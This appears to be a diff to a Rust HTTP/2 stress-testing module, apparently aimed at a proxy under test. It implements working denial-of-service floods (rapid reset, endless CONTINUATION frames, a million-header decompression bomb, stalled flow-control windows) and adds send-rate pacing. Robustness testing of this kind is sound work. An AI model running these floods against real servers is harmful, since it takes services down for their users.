@@ -1,9 +1,9 @@
 //! Attacks by HTTP/2, frame by frame: no library would send these.
 
+use super::Pace;
 use super::http1::hold;
 use std::io::{ErrorKind, Read, Write};
 use std::net::{SocketAddr, TcpStream};
-use std::sync::atomic::{AtomicBool, Ordering};
 use std::time::Duration;
 
 const DATA_MAX: usize = 16_384;
@@ -62,10 +62,10 @@ fn drain(s: &mut TcpStream) -> bool {
 }
 
 /// Opens and resets, on eight connections, each opened again when the proxy has had enough.
-pub(super) fn rapid_reset(to: SocketAddr, stop: &AtomicBool) -> anyhow::Result<u64> {
+pub(super) fn rapid_reset(to: SocketAddr, pace: &Pace) -> anyhow::Result<u64> {
     let (block, mut streams) = (get("/"), 0);
     let mut lanes: Vec<Option<(TcpStream, u32)>> = (0..8).map(|_| None).collect();
-    while !stop.load(Ordering::Relaxed) {
+    while !pace.over() {
         for lane in &mut lanes {
             let Some((s, next)) = lane else {
                 if let Ok(mut s) = connect(to)
@@ -75,6 +75,9 @@ pub(super) fn rapid_reset(to: SocketAddr, stop: &AtomicBool) -> anyhow::Result<u
                 }
                 continue;
             };
+            if !pace.wait(streams, 40_000.0) {
+                break;
+            }
             let mut out = Vec::with_capacity(8192);
             for _ in 0..100 {
                 frame(&mut out, HEADERS, END_STREAM | END_HEADERS, *next, &block);
@@ -92,13 +95,13 @@ pub(super) fn rapid_reset(to: SocketAddr, stop: &AtomicBool) -> anyhow::Result<u
 }
 
 /// A header block that never ends.
-pub(super) fn continuation(to: SocketAddr, stop: &AtomicBool) -> anyhow::Result<u64> {
+pub(super) fn continuation(to: SocketAddr, pace: &Pace) -> anyhow::Result<u64> {
     // Literals without indexing: name `x`, value of 100 bytes.
     let field = [&[0, 1, b'x', 100][..], &[b'v'; 100]].concat();
     let mut payload = field.repeat(DATA_MAX / field.len());
     payload.truncate(DATA_MAX);
     let mut frames = 0;
-    while !stop.load(Ordering::Relaxed) {
+    while !pace.over() {
         let Ok(mut s) = connect(to) else { continue };
         let mut out = opening(&[]);
         frame(&mut out, HEADERS, END_STREAM, 1, &get("/"));
@@ -106,7 +109,7 @@ pub(super) fn continuation(to: SocketAddr, stop: &AtomicBool) -> anyhow::Result<
         out.clear();
         frame(&mut out, CONTINUATION, 0, 1, &payload);
         for _ in 0..1000 {
-            alive = alive && !stop.load(Ordering::Relaxed) && s.write_all(&out).is_ok() && drain(&mut s);
+            alive = alive && pace.wait(frames, 2000.0) && s.write_all(&out).is_ok() && drain(&mut s);
             frames += u64::from(alive);
         }
     }
@@ -114,9 +117,9 @@ pub(super) fn continuation(to: SocketAddr, stop: &AtomicBool) -> anyhow::Result<
 }
 
 /// A million fields of a byte each, which decode to 40 MB.
-pub(super) fn million_headers(to: SocketAddr, stop: &AtomicBool) -> anyhow::Result<u64> {
+pub(super) fn million_headers(to: SocketAddr, pace: &Pace) -> anyhow::Result<u64> {
     let (payload, mut requests) = (vec![0x90; DATA_MAX], 0); // 0x90: accept-encoding: gzip, deflate, indexed
-    while !stop.load(Ordering::Relaxed) {
+    while pace.wait(requests, 50.0) {
         let Ok(mut s) = connect(to) else { continue };
         let mut out = opening(&[]);
         frame(&mut out, HEADERS, END_STREAM, 1, &get("/"));
@@ -124,13 +127,14 @@ pub(super) fn million_headers(to: SocketAddr, stop: &AtomicBool) -> anyhow::Resu
             frame(&mut out, CONTINUATION, if n == 60 { END_HEADERS } else { 0 }, 1, &payload);
         }
         let _ = s.write_all(&out);
-        requests += u64::from(drain(&mut s));
+        drain(&mut s);
+        requests += 1;
     }
     Ok(requests)
 }
 
 /// Fifty connections with a hundred streams each: half of them grant no window, the others all of it and then do not read.
-pub(super) fn stalled(to: SocketAddr, stop: &AtomicBool) -> anyhow::Result<u64> {
+pub(super) fn stalled(to: SocketAddr, pace: &Pace) -> anyhow::Result<u64> {
     let ask = |window: u32| {
         let mut out = opening(&[(4, window)]);
         if window > 0 {
@@ -143,7 +147,7 @@ pub(super) fn stalled(to: SocketAddr, stop: &AtomicBool) -> anyhow::Result<u64> 
     };
     let (closed, open) = (ask(0), ask(0x7fff_ffff));
     let turn = std::cell::Cell::new(false);
-    let held = hold(50, to, stop, |s| {
+    let held = hold(50, to, pace, |s| {
         turn.set(!turn.get());
         s.write_all(if turn.get() { &closed } else { &open })
     })?;
